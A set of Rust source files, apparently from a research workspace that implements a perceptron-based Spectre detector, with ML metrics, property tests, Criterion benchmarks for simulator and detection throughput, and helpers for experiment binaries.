    assert!(!scores.is_empty(), "empty score set");
    let pos = truth.iter().filter(|&&t| t > 0).count();
    let neg = truth.len() - pos;
    let mut order: Vec<usize> = (0..scores.len()).collect();
    order.sort_by(|&a, &b| scores[b].partial_cmp(&scores[a]).expect("no NaN scores"));

    let mut points = vec![RocPoint {
        fpr: 0.0,
        tpr: 0.0,
        threshold: f64::INFINITY,
    }];
    let (mut tp, mut fp) = (0usize, 0usize);
    let mut i = 0;
    while i < order.len() {
        let t = scores[order[i]];
        // Consume all samples tied at this threshold.
        while i < order.len() && scores[order[i]] == t {
            if truth[order[i]] > 0 {
                tp += 1;
            } else {
                fp += 1;
            }
            i += 1;
        }
        points.push(RocPoint {
            fpr: if neg == 0 {
                0.0
            } else {
                fp as f64 / neg as f64
            },
            tpr: if pos == 0 {
                0.0
            } else {
                tp as f64 / pos as f64
            },
            threshold: t,
        });
    }
    points
}

/// Area under the ROC curve (trapezoidal rule).
pub fn auc(points: &[RocPoint]) -> f64 {
    points
        .windows(2)
        .map(|w| (w[1].fpr - w[0].fpr) * (w[1].tpr + w[0].tpr) / 2.0)
        .sum()
}

/// Mean and 95% confidence half-width of a set of per-fold scores (the
/// paper's `0.9979 ± 0.0065` style numbers).
pub fn mean_confidence(values: &[f64]) -> (f64, f64) {
    if values.is_empty() {
        return (0.0, 0.0);
    }
    let n = values.len() as f64;
    let mean = values.iter().sum::<f64>() / n;
    if values.len() < 2 {
        return (mean, 0.0);
    }
    let var = values.iter().map(|v| (v - mean) * (v - mean)).sum::<f64>() / (n - 1.0);
    (mean, 1.96 * (var / n).sqrt())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn confusion_counts_all_four_cells() {
        let c = confusion(&[1, 1, -1, -1], &[1, -1, 1, -1]);
        assert_eq!(
            c,
            Confusion {
                tp: 1,
                fp: 1,
                tn: 1,
                fn_: 1
            }
        );
        assert_eq!(c.accuracy(), 0.5);
        assert_eq!(c.precision(), 0.5);
        assert_eq!(c.recall(), 0.5);
        assert_eq!(c.f1(), 0.5);
    }

    #[test]
    fn perfect_separation_gives_auc_one() {
        let scores = [0.9, 0.8, 0.2, 0.1];
        let truth = [1, 1, -1, -1];
        let roc = roc_curve(&scores, &truth);
        assert!((auc(&roc) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn random_scores_give_auc_half() {
        // Interleaved scores: every threshold mixes classes equally.
        let scores = [4.0, 3.0, 2.0, 1.0];
        let truth = [1, -1, 1, -1];
        let roc = roc_curve(&scores, &truth);
        let a = auc(&roc);
        assert!((a - 0.5).abs() < 0.26, "auc {a}");
    }

    #[test]
    fn roc_starts_at_origin_and_ends_at_one_one() {
        let roc = roc_curve(&[0.3, 0.7, 0.5], &[1, -1, 1]);
        assert_eq!((roc[0].fpr, roc[0].tpr), (0.0, 0.0));
        let last = roc.last().expect("non-empty");
        assert_eq!((last.fpr, last.tpr), (1.0, 1.0));
    }

    #[test]
    fn tied_scores_are_consumed_together() {
        let roc = roc_curve(&[0.5, 0.5, 0.5], &[1, -1, 1]);
        assert_eq!(roc.len(), 2);
    }

    #[test]
    fn mean_confidence_of_constant_is_tight() {
        let (m, ci) = mean_confidence(&[0.9, 0.9, 0.9]);
        assert_eq!(m, 0.9);
        assert_eq!(ci, 0.0);
    }
}
