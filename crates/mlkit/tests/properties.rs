//! Property-based tests for the ML toolkit.

use mlkit::{
    auc, confusion, pearson, roc_curve, stratified_kfold, Classifier, DecisionTree, Knn, Perceptron,
};
use proptest::prelude::*;

proptest! {
    #[test]
    fn roc_curve_is_monotonically_nondecreasing(
        data in proptest::collection::vec((any::<f32>(), any::<bool>()), 2..100)
    ) {
        let scores: Vec<f64> = data.iter().map(|(s, _)| *s as f64).filter(|s| s.is_finite()).collect();
        prop_assume!(scores.len() >= 2);
        let truth: Vec<i8> = data
            .iter()
            .take(scores.len())
            .map(|(_, t)| if *t { 1i8 } else { -1 })
            .collect();
        let roc = roc_curve(&scores, &truth);
        for w in roc.windows(2) {
            prop_assert!(w[1].fpr >= w[0].fpr - 1e-12);
            prop_assert!(w[1].tpr >= w[0].tpr - 1e-12);
        }
        let a = auc(&roc);
        prop_assert!((0.0..=1.0 + 1e-12).contains(&a), "auc {a}");
    }

    #[test]
    fn pearson_is_symmetric_and_bounded(
        pairs in proptest::collection::vec((-100.0f64..100.0, -100.0f64..100.0), 2..60)
    ) {
        let x: Vec<f64> = pairs.iter().map(|p| p.0).collect();
        let y: Vec<f64> = pairs.iter().map(|p| p.1).collect();
        let r = pearson(&x, &y);
        prop_assert!((-1.0 - 1e-9..=1.0 + 1e-9).contains(&r), "r = {r}");
        prop_assert!((r - pearson(&y, &x)).abs() < 1e-12);
    }

    #[test]
    fn confusion_cells_partition_the_samples(
        data in proptest::collection::vec((any::<bool>(), any::<bool>()), 1..100)
    ) {
        let pred: Vec<i8> = data.iter().map(|(p, _)| if *p { 1 } else { -1 }).collect();
        let truth: Vec<i8> = data.iter().map(|(_, t)| if *t { 1 } else { -1 }).collect();
        let c = confusion(&pred, &truth);
        prop_assert_eq!(c.tp + c.fp + c.tn + c.fn_, data.len());
        prop_assert!((0.0..=1.0).contains(&c.accuracy()));
        prop_assert!((0.0..=1.0).contains(&c.f1()));
    }

    #[test]
    fn stratified_folds_never_lose_or_duplicate_samples(
        labels in proptest::collection::vec(prop_oneof![Just(1i8), Just(-1i8)], 6..80),
        k in 2usize..5,
        seed in any::<u64>()
    ) {
        prop_assume!(k <= labels.len());
        let folds = stratified_kfold(&labels, k, seed);
        let mut all: Vec<usize> = folds.iter().flatten().copied().collect();
        all.sort_unstable();
        let expect: Vec<usize> = (0..labels.len()).collect();
        prop_assert_eq!(all, expect);
    }

    #[test]
    fn knn_k1_perfectly_memorizes_distinct_training_points(
        points in proptest::collection::btree_set(0i32..1000, 2..30)
    ) {
        let x: Vec<Vec<f64>> = points.iter().map(|&p| vec![p as f64]).collect();
        let y: Vec<i8> = points.iter().map(|&p| if p % 2 == 0 { 1 } else { -1 }).collect();
        let mut m = Knn::new(1);
        m.fit(&x, &y);
        for (row, &label) in x.iter().zip(&y) {
            prop_assert_eq!(m.predict(row), label);
        }
    }

    #[test]
    fn deep_tree_fits_any_consistent_labeling(
        points in proptest::collection::btree_map(0i32..200, any::<bool>(), 2..40)
    ) {
        let x: Vec<Vec<f64>> = points.keys().map(|&p| vec![p as f64]).collect();
        let y: Vec<i8> = points.values().map(|&t| if t { 1 } else { -1 }).collect();
        let mut t = DecisionTree::new(32, 1);
        t.fit(&x, &y);
        for (row, &label) in x.iter().zip(&y) {
            prop_assert_eq!(t.predict(row), label);
        }
    }

    #[test]
    fn perceptron_score_is_linear_in_inputs(
        w in proptest::collection::vec(-5.0f64..5.0, 4),
        a in proptest::collection::vec(-5.0f64..5.0, 4),
        b in proptest::collection::vec(-5.0f64..5.0, 4)
    ) {
        let mut p = Perceptron::new(4);
        p.set_weights(w, 0.0).unwrap();
        let sum: Vec<f64> = a.iter().zip(&b).map(|(x, y)| x + y).collect();
        let lhs = p.score(&sum);
        let rhs = p.score(&a) + p.score(&b);
        prop_assert!((lhs - rhs).abs() < 1e-9);
    }
}
