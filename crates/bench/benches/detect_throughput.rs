//! Detection-path throughput: the bit-packed inference engine against the
//! scalar `f64` reference path, over the raw rows of a real collected
//! corpus (encode + score per sampling window — the full deployment-shaped
//! detection step, not just the dot product).
//!
//! Merges the measured `detect_*` keys into `BENCH_pipeline.json` at the
//! workspace root (preserving every other bench's keys).
//! `PERSPECTRON_QUICK=1` shrinks the corpus for CI smoke runs.

use std::time::Instant;

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use mlkit::BitRow;
use perspectron::{CorpusSpec, InferencePath, PerSpectron};

fn bench_spec() -> CorpusSpec {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let mut spec = CorpusSpec::quick();
    if quick {
        spec.insts_per_workload = 30_000;
        spec.workloads.truncate(6);
    }
    spec
}

/// Runs `pass` repeatedly until it has accumulated at least a second of
/// wall clock (and at least three passes), returning samples per second.
fn rate(samples_per_pass: usize, mut pass: impl FnMut() -> f64) -> f64 {
    let mut passes = 0usize;
    let mut sink = 0.0;
    let start = Instant::now();
    while passes < 3 || start.elapsed().as_secs_f64() < 1.0 {
        sink += pass();
        passes += 1;
    }
    black_box(sink);
    (passes * samples_per_pass) as f64 / start.elapsed().as_secs_f64()
}

/// Rewrites `BENCH_pipeline.json`, replacing any existing `detect_*` keys
/// with the given ones and leaving the other benches' keys untouched.
fn merge_detect_keys(path: &str, keys: &[(&str, String)]) {
    let existing = std::fs::read_to_string(path).unwrap_or_else(|_| "{\n}\n".to_string());
    let mut lines: Vec<String> = existing
        .lines()
        .filter(|l| !l.contains("\"detect_"))
        .map(str::to_string)
        .collect();
    while lines.last().is_some_and(|l| l.trim().is_empty()) {
        lines.pop();
    }
    let close = lines.pop().unwrap_or_else(|| "}".to_string());
    if let Some(last) = lines.last_mut() {
        let trimmed = last.trim_end();
        if !trimmed.ends_with(',') && !trimmed.ends_with('{') {
            last.push(',');
        }
    }
    for (i, (k, v)) in keys.iter().enumerate() {
        let comma = if i + 1 == keys.len() { "" } else { "," };
        lines.push(format!("  \"{k}\": {v}{comma}"));
    }
    lines.push(close);
    if let Err(e) = std::fs::write(path, lines.join("\n") + "\n") {
        eprintln!("could not write {path}: {e}");
    }
}

fn bench_detect(c: &mut Criterion) {
    let spec = bench_spec();
    let corpus = spec.collect_serial();
    let det = PerSpectron::train(&corpus, 42);
    let samples = corpus.total_samples();

    // Scalar reference: full-width k-sparse encode, project, dense dot
    // product — exactly `confidence_series` over every trace.
    let scalar_pass = || {
        let mut acc = 0.0;
        for t in &corpus.traces {
            for cnf in det.confidence_series_via(t, InferencePath::Scalar) {
                acc += cnf;
            }
        }
        acc
    };
    // Packed batched: projected bit-packed encode, one linear scoring
    // sweep per trace — the detection fast path.
    let packed_pass = || {
        let mut acc = 0.0;
        for t in &corpus.traces {
            for cnf in det.confidence_series_via(t, InferencePath::Packed) {
                acc += cnf;
            }
        }
        acc
    };
    // Packed single-row: same encoder, row-at-a-time sparse gather (the
    // per-window latency shape, raw scores).
    let encoder = det.packed_encoder();
    let engine = det.packed_perceptron();
    let packed_single_pass = {
        let corpus = &corpus;
        let mut row = BitRow::zeros(encoder.width());
        move || {
            let mut acc = 0.0;
            for t in &corpus.traces {
                for (j, raw) in t.trace.rows().enumerate() {
                    encoder.encode_bits_into(raw, j, &mut row);
                    acc += engine.score_bits(&row);
                }
            }
            acc
        }
    };

    // Equivalence spot-check before timing anything: a benchmark of a
    // wrong fast path is worthless.
    for t in &corpus.traces {
        let a = det.confidence_series_via(t, InferencePath::Scalar);
        let b = det.confidence_series_via(t, InferencePath::Packed);
        assert_eq!(a.len(), b.len());
        assert!(
            a.iter().zip(&b).all(|(x, y)| x.to_bits() == y.to_bits()),
            "{}: packed confidences diverged from scalar",
            t.name
        );
    }

    let scalar_rate = rate(samples, scalar_pass);
    let packed_rate = rate(samples, packed_pass);
    let packed_single_rate = rate(samples, packed_single_pass);
    let speedup = packed_rate / scalar_rate.max(1e-9);
    println!(
        "detection throughput over {samples} windows: scalar {scalar_rate:.0}/s, \
         packed batched {packed_rate:.0}/s ({speedup:.1}x), \
         packed single-row {packed_single_rate:.0}/s"
    );

    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_pipeline.json");
    merge_detect_keys(
        path,
        &[
            ("detect_samples", format!("{samples}")),
            ("detect_scalar_samples_per_sec", format!("{scalar_rate:.0}")),
            ("detect_packed_samples_per_sec", format!("{packed_rate:.0}")),
            (
                "detect_packed_single_samples_per_sec",
                format!("{packed_single_rate:.0}"),
            ),
            ("detect_speedup_packed", format!("{speedup:.2}")),
        ],
    );

    let mut group = c.benchmark_group("detection");
    group.throughput(Throughput::Elements(samples as u64));
    group.sample_size(10);
    group.bench_function("scalar", |b| {
        b.iter(|| {
            corpus
                .traces
                .iter()
                .map(|t| {
                    det.confidence_series_via(t, InferencePath::Scalar)
                        .iter()
                        .sum::<f64>()
                })
                .sum::<f64>()
        })
    });
    group.bench_function("packed", |b| {
        b.iter(|| {
            corpus
                .traces
                .iter()
                .map(|t| {
                    det.confidence_series_via(t, InferencePath::Packed)
                        .iter()
                        .sum::<f64>()
                })
                .sum::<f64>()
        })
    });
    group.finish();
}

criterion_group!(benches, bench_detect);
criterion_main!(benches);
