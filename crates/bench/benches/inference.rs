//! Detector inference latency: the software analog of Table IV's hardware
//! complexity column. The perceptron's binary-input dot product is orders
//! of magnitude cheaper than KNN's distance scan and cheaper than the MLP
//! forward pass.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use mlkit::{Classifier, Knn, Mlp, Perceptron};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

const FEATURES: usize = 106;

fn sample_row(rng: &mut StdRng) -> Vec<f64> {
    (0..FEATURES)
        .map(|_| f64::from(rng.gen_bool(0.2)))
        .collect()
}

fn training_set(rng: &mut StdRng, n: usize) -> (Vec<Vec<f64>>, Vec<i8>) {
    let x: Vec<Vec<f64>> = (0..n).map(|_| sample_row(rng)).collect();
    let y: Vec<i8> = x
        .iter()
        .map(|r| {
            if r.iter().sum::<f64>() > FEATURES as f64 * 0.2 {
                1
            } else {
                -1
            }
        })
        .collect();
    (x, y)
}

fn bench_inference(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(17);
    let (x, y) = training_set(&mut rng, 2000);

    let mut perceptron = Perceptron::new(FEATURES);
    perceptron.max_epochs = 50;
    perceptron.fit(&x, &y);

    let mut knn = Knn::new(3);
    knn.fit(&x, &y);

    let mut mlp = Mlp::new(FEATURES, 16, 3);
    mlp.epochs = 5;
    mlp.fit(&x, &y);

    let mut group = c.benchmark_group("inference_106_features");
    group.bench_function("perspectron_perceptron", |b| {
        let mut r = StdRng::seed_from_u64(23);
        b.iter_batched(
            || sample_row(&mut r),
            |row| perceptron.predict(&row),
            BatchSize::SmallInput,
        )
    });
    group.bench_function("knn_k3_2000rows", |b| {
        let mut r = StdRng::seed_from_u64(23);
        b.iter_batched(
            || sample_row(&mut r),
            |row| knn.predict(&row),
            BatchSize::SmallInput,
        )
    });
    group.bench_function("mlp_16_hidden", |b| {
        let mut r = StdRng::seed_from_u64(23);
        b.iter_batched(
            || sample_row(&mut r),
            |row| mlp.predict(&row),
            BatchSize::SmallInput,
        )
    });
    group.finish();
}

criterion_group!(benches, bench_inference);
criterion_main!(benches);
