//! Corpus-collection throughput: the streaming, parallel sample pipeline
//! against the serial baseline, plus the per-sample allocation story
//! (schema-resolved value-only sampling vs. re-walking the stat tree into
//! a fresh name/value snapshot every interval, as the pre-streaming
//! pipeline did).
//!
//! Writes the measured numbers to `BENCH_pipeline.json` at the workspace
//! root. `PERSPECTRON_QUICK=1` shrinks the corpus for CI smoke runs.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use perspectron::{CorpusSpec, ScenarioSpec};
use sim_cpu::{Core, CoreConfig, Machine};
use sim_mem::HierarchyConfig;
use uarch_stats::{SampleSink, Sampler, Snapshot};

/// Counts every heap allocation so the bench can report allocations per
/// sample for the old and new sampling paths.
struct CountingAllocator;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static ALLOCATOR: CountingAllocator = CountingAllocator;

fn allocations() -> u64 {
    ALLOCATIONS.load(Ordering::Relaxed)
}

fn bench_spec() -> CorpusSpec {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let mut spec = CorpusSpec::quick();
    if quick {
        spec.insts_per_workload = 30_000;
        spec.workloads.truncate(6);
    }
    spec
}

fn scenario_spec() -> ScenarioSpec {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let mut spec = ScenarioSpec::cross_core_quick();
    if quick {
        spec.insts_per_scenario = 30_000;
        spec.scenarios.truncate(4);
    }
    spec
}

/// Core-count scaling of the raw simulator loop: the same benign kernel on
/// a one-core and a two-core machine, compared by machine-wide committed
/// instructions per host second. Perfect scaling would be 2.0 (two cores'
/// worth of instructions for one machine's wall-clock); the shared
/// mutex-held uncore and the lockstep tick keep it below that.
fn core_scaling(insts: u64) -> (f64, f64, f64) {
    let hmmer = || workloads::benign::hmmer().expect("hmmer assembles");
    let run = |programs: Vec<uarch_isa::Program>| {
        let mut m = Machine::new(
            &CoreConfig::default(),
            &HierarchyConfig::default(),
            programs,
        );
        let s = m.run(insts);
        s.insts_per_sec
    };
    let one = run(vec![hmmer()]);
    let two = run(vec![hmmer(), hmmer()]);
    (one, two, two / one.max(1e-9))
}

/// The worker count the parallel pass actually runs with.
///
/// Clamped to the host's `available_parallelism`: running more workers
/// than hardware threads only time-slices them and reports a fictitious
/// "parallel" number. `PERSPECTRON_BENCH_THREADS` still overrides (an
/// explicit request is honored as-is — the JSON flags the oversubscription
/// instead of silently correcting it). Always clamped to the workload
/// count, mirroring `try_collect_with_threads`.
fn worker_threads(n_workloads: usize) -> usize {
    let available = std::thread::available_parallelism().map_or(1, |n| n.get());
    let requested = std::env::var("PERSPECTRON_BENCH_THREADS")
        .ok()
        .and_then(|s| s.parse().ok());
    let t = requested.unwrap_or(available);
    t.clamp(1, n_workloads.max(1))
}

/// Discards rows; measures pure sampling cost.
struct NullSink {
    samples: u64,
}

impl SampleSink for NullSink {
    fn on_sample(&mut self, _insts: u64, _row: &[f64]) {
        self.samples += 1;
    }
}

/// Allocation counts per sampled interval for the legacy snapshot-per-
/// interval path vs. the schema-resolved streaming sampler.
fn allocation_comparison(samples: u64) -> (f64, f64) {
    let mut core = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    core.run(10_000);

    // Legacy shape: every interval re-walks the stat tree into a fresh
    // Snapshot, allocating ~1159 dotted names plus the value vector.
    let before = allocations();
    for _ in 0..samples {
        criterion::black_box(Snapshot::of(&core, ""));
    }
    let snapshot_allocs = (allocations() - before) as f64 / samples as f64;

    // Streaming shape: schema resolved once, value-only walks into
    // reusable buffers, rows emitted by reference.
    let mut sampler = Sampler::new(&core, "");
    let mut sink = NullSink { samples: 0 };
    let before = allocations();
    for i in 0..samples {
        sampler.sample_into(&core, i * 10_000, &mut sink);
    }
    let streaming_allocs = (allocations() - before) as f64 / samples as f64;
    (snapshot_allocs, streaming_allocs)
}

fn bench_pipeline(c: &mut Criterion) {
    let spec = bench_spec();
    let available = std::thread::available_parallelism().map_or(1, |n| n.get());
    let threads = worker_threads(spec.workloads.len());

    // One measured pass each for the JSON report (criterion's own loop
    // below reports the steady-state timing).
    let start = Instant::now();
    let serial = spec.collect_serial();
    let serial_secs = start.elapsed().as_secs_f64();
    // With one worker the "parallel" pass is the serial execution plus
    // scope/channel overhead — a guaranteed sub-1.0 "speedup" that is
    // pure noise. Take the serial path directly and flag the skip so the
    // CI speedup gate knows there is nothing to compare.
    let (parallel_path, parallel_secs) = if threads <= 1 {
        ("skipped", serial_secs)
    } else {
        let start = Instant::now();
        let parallel = spec.collect_with_threads(threads);
        let secs = start.elapsed().as_secs_f64();
        assert_eq!(serial.total_samples(), parallel.total_samples());
        ("measured", secs)
    };
    let samples = serial.total_samples() as u64;
    let insts: u64 = spec.insts_per_workload * spec.workloads.len() as u64;

    let (snapshot_allocs, streaming_allocs) = allocation_comparison(samples.max(1));

    // Single-core hot-loop throughput: one long simulated run, wall-clock
    // rates straight off the `RunSummary`.
    let mut hot = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    let hot_summary = hot.run(spec.insts_per_workload.max(100_000));
    println!(
        "hot loop: {:.0} insts/s, {:.0} sim cycles/s",
        hot_summary.insts_per_sec, hot_summary.sim_cycles_per_sec
    );

    // Two-core machine collection over the cross-core scenario suite, plus
    // raw core-count scaling of the simulator loop itself.
    let scen = scenario_spec();
    let scen_threads = worker_threads(scen.scenarios.len());
    let start = Instant::now();
    let xc = scen
        .try_collect_with_threads(scen_threads)
        .expect("two-core collection succeeds");
    let two_core_secs = start.elapsed().as_secs_f64();
    let two_core_samples = xc.total_samples() as u64;
    let (one_core_ips, two_core_ips, scaling) = core_scaling(spec.insts_per_workload.max(100_000));
    println!(
        "two-core: {} scenarios, {} samples in {:.3}s ({:.1} samples/s, {:.1} per core); \
         core scaling {:.0} -> {:.0} insts/s ({:.2}x)",
        scen.scenarios.len(),
        two_core_samples,
        two_core_secs,
        two_core_samples as f64 / two_core_secs.max(1e-9),
        two_core_samples as f64 / two_core_secs.max(1e-9) / 2.0,
        one_core_ips,
        two_core_ips,
        scaling
    );

    let json = format!(
        "{{\n  \"bench\": \"corpus_collection_quick\",\n  \"workloads\": {},\n  \"insts_per_workload\": {},\n  \"samples\": {},\n  \"threads\": {},\n  \"available_parallelism\": {},\n  \"oversubscribed\": {},\n  \"parallel_path\": \"{}\",\n  \"serial_secs\": {:.3},\n  \"parallel_secs\": {:.3},\n  \"speedup\": {:.2},\n  \"serial_samples_per_sec\": {:.1},\n  \"parallel_samples_per_sec\": {:.1},\n  \"insts_per_sec\": {:.0},\n  \"cycles_per_sec\": {:.0},\n  \"allocs_per_sample_snapshot_path\": {:.1},\n  \"allocs_per_sample_streaming_path\": {:.1},\n  \"alloc_reduction\": {:.1},\n  \"two_core_scenarios\": {},\n  \"two_core_threads\": {},\n  \"two_core_samples\": {},\n  \"two_core_secs\": {:.3},\n  \"two_core_samples_per_sec\": {:.1},\n  \"two_core_samples_per_sec_per_core\": {:.1},\n  \"one_core_insts_per_sec\": {:.0},\n  \"two_core_insts_per_sec\": {:.0},\n  \"core_scaling\": {:.2}\n}}\n",
        spec.workloads.len(),
        spec.insts_per_workload,
        samples,
        threads,
        available,
        threads > available,
        parallel_path,
        serial_secs,
        parallel_secs,
        serial_secs / parallel_secs.max(1e-9),
        samples as f64 / serial_secs.max(1e-9),
        samples as f64 / parallel_secs.max(1e-9),
        hot_summary.insts_per_sec,
        hot_summary.sim_cycles_per_sec,
        snapshot_allocs,
        streaming_allocs,
        snapshot_allocs / streaming_allocs.max(1.0),
        scen.scenarios.len(),
        scen_threads,
        two_core_samples,
        two_core_secs,
        two_core_samples as f64 / two_core_secs.max(1e-9),
        two_core_samples as f64 / two_core_secs.max(1e-9) / 2.0,
        one_core_ips,
        two_core_ips,
        scaling,
    );
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_pipeline.json");
    if let Err(e) = std::fs::write(path, &json) {
        eprintln!("could not write BENCH_pipeline.json: {e}");
    }
    println!("{json}");

    let mut group = c.benchmark_group("corpus_collection");
    group.throughput(Throughput::Elements(insts));
    group.sample_size(10);
    group.bench_function("serial", |b| b.iter(|| spec.collect_serial()));
    if threads > 1 {
        group.bench_function("parallel", |b| {
            b.iter(|| spec.collect_with_threads(threads))
        });
    }
    group.bench_function("two_core", |b| {
        b.iter(|| {
            scen.try_collect_with_threads(scen_threads)
                .expect("two-core collection succeeds")
        })
    });
    group.finish();
}

criterion_group!(benches, bench_pipeline);
criterion_main!(benches);
