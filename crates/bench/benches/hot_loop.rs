//! The simulator hot loop, A/B: the optimized core (decoded-instruction
//! cache, ready-queue wakeup/select, completion min-heap, tick-skip) against
//! the reference machine (per-fetch decode, full-window scans, stepped
//! clock), and each optimization's runtime toggle in isolation.
//!
//! The two paths are bit-identical in every statistic (see the
//! `reference_equivalence` tests in sim-cpu); this bench measures what the
//! identity buys. `PERSPECTRON_QUICK=1` shrinks the instruction budget for
//! CI smoke runs.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use sim_cpu::{Core, CoreConfig};
use uarch_isa::Program;
use workloads::spectre::{spectre_v1, SpectreV1Params};

fn insts() -> u64 {
    if std::env::var("PERSPECTRON_QUICK").is_ok() {
        10_000
    } else {
        50_000
    }
}

fn cfg(reference_scan: bool, tick_skip: bool) -> CoreConfig {
    CoreConfig {
        reference_scan,
        tick_skip,
        ..CoreConfig::default()
    }
}

fn bench_workload(c: &mut Criterion, name: &str, program: &Program) {
    let n = insts();
    let mut group = c.benchmark_group(format!("simulator_hot_loop/{name}"));
    group.throughput(Throughput::Elements(n));
    group.sample_size(10);

    for (label, reference_scan, tick_skip) in [
        ("optimized", false, true),
        ("no_tick_skip", false, false),
        ("reference_scan", true, false),
    ] {
        let program = program.clone();
        group.bench_function(label, move |b| {
            b.iter(|| {
                let mut core = Core::new(cfg(reference_scan, tick_skip), program.clone());
                core.run(n)
            })
        });
    }
    group.finish();
}

fn bench_hot_loop(c: &mut Criterion) {
    bench_workload(
        c,
        "hmmer",
        &workloads::benign::hmmer().expect("hmmer assembles"),
    );
    bench_workload(c, "mcf", &workloads::benign::mcf().expect("mcf assembles"));
    bench_workload(c, "spectre_v1", &spectre_v1(SpectreV1Params::default()));
}

criterion_group!(benches, bench_hot_loop);
criterion_main!(benches);
