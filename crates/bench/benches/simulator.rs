//! Simulator throughput: committed instructions per second for a benign
//! kernel and for an attack (attacks stress the squash/flush paths).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use sim_cpu::{Core, CoreConfig};
use workloads::spectre::{spectre_v1, SpectreV1Params};

const INSTS: u64 = 50_000;

fn bench_simulator(c: &mut Criterion) {
    let mut group = c.benchmark_group("simulator_throughput");
    group.throughput(Throughput::Elements(INSTS));
    group.sample_size(10);

    group.bench_function("benign_hmmer_50k_insts", |b| {
        b.iter(|| {
            let mut core = Core::new(
                CoreConfig::default(),
                workloads::benign::hmmer().expect("hmmer assembles"),
            );
            core.run(INSTS)
        })
    });
    group.bench_function("spectre_v1_50k_insts", |b| {
        b.iter(|| {
            let mut core = Core::new(
                CoreConfig::default(),
                spectre_v1(SpectreV1Params::default()),
            );
            core.run(INSTS)
        })
    });
    group.bench_function("stat_snapshot_1159", |b| {
        let mut core = Core::new(
            CoreConfig::default(),
            workloads::benign::hmmer().expect("hmmer assembles"),
        );
        core.run(10_000);
        b.iter(|| uarch_stats::Snapshot::of(&core, ""))
    });
    group.finish();
}

criterion_group!(benches, bench_simulator);
criterion_main!(benches);
