//! Shared support for the experiment binaries that regenerate every table
//! and figure of the paper.

#![warn(missing_docs)]

use perspectron::{CollectedCorpus, CorpusSpec, PerSpectron};

/// Standard corpus for the experiment binaries, collected in parallel
/// across all available cores through the streaming sample pipeline.
/// Setting `PERSPECTRON_QUICK=1` in the environment switches to a fast
/// smoke-test configuration.
pub fn experiment_corpus(interval: u64) -> CollectedCorpus {
    let quick = std::env::var("PERSPECTRON_QUICK").is_ok();
    let insts = if quick { 150_000 } else { 600_000 };
    CorpusSpec::paper()
        .with_interval(interval)
        .with_insts(insts)
        .collect()
}

/// Collects the 10K-interval corpus and trains the detector on it.
pub fn trained_detector() -> (CollectedCorpus, PerSpectron) {
    let corpus = experiment_corpus(10_000);
    let detector = PerSpectron::train(&corpus, 42);
    (corpus, detector)
}

/// Renders a simple aligned table.
pub fn render_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let mut widths: Vec<usize> = headers.iter().map(|h| h.len()).collect();
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            if cell.len() > widths[i] {
                widths[i] = cell.len();
            }
        }
    }
    let mut out = String::new();
    let fmt_row = |cells: &[String], widths: &[usize]| -> String {
        cells
            .iter()
            .zip(widths)
            .map(|(c, w)| format!("{c:<w$}"))
            .collect::<Vec<_>>()
            .join(" | ")
    };
    let head: Vec<String> = headers.iter().map(|s| s.to_string()).collect();
    out.push_str(&fmt_row(&head, &widths));
    out.push('\n');
    out.push_str(&"-".repeat(widths.iter().sum::<usize>() + 3 * widths.len().saturating_sub(1)));
    out.push('\n');
    for row in rows {
        out.push_str(&fmt_row(row, &widths));
        out.push('\n');
    }
    out
}

/// Formats a confidence series (range −1..1) as a terminal sparkline.
pub fn render_series(label: &str, values: &[f64]) -> String {
    let glyphs = [' ', '▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    let line: String = values
        .iter()
        .map(|&v| {
            let clamped = v.clamp(-1.0, 1.0);
            let idx = (((clamped + 1.0) / 2.0) * (glyphs.len() - 1) as f64).round() as usize;
            glyphs[idx]
        })
        .collect();
    format!("{label:<28} {line}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_renders_aligned_columns() {
        let t = render_table(
            &["model", "acc"],
            &[
                vec!["perceptron".into(), "0.99".into()],
                vec!["knn".into(), "0.94".into()],
            ],
        );
        assert!(t.contains("perceptron | 0.99"));
        assert_eq!(t.lines().count(), 4);
    }

    #[test]
    fn series_maps_range_to_glyphs() {
        let s = render_series("x", &[-1.0, 0.0, 1.0]);
        assert!(s.ends_with(" ▄█"));
    }
}
