//! §VII-C interpretation through feature analysis: the trained perceptron's
//! weights grouped by pipeline component.

use perspectron_bench::trained_detector;

fn main() {
    let (corpus, detector) = trained_detector();
    let report = detector.evaluate(&corpus);
    println!(
        "detector trained on {} workloads; training-set accuracy {:.4}\n",
        corpus.traces.len(),
        report.confusion.accuracy()
    );
    println!("FEATURE WEIGHTS BY COMPONENT (positive → suspicious, negative → benign)\n");
    for (component, weights) in detector.explain() {
        println!("[{component}]");
        for (name, w) in weights.iter().take(6) {
            let bar_len = (w.abs() * 10.0).min(30.0) as usize;
            let bar: String =
                std::iter::repeat_n(if *w >= 0.0 { '+' } else { '-' }, bar_len.max(1)).collect();
            println!("  {w:>8.3}  {bar:<30} {name}");
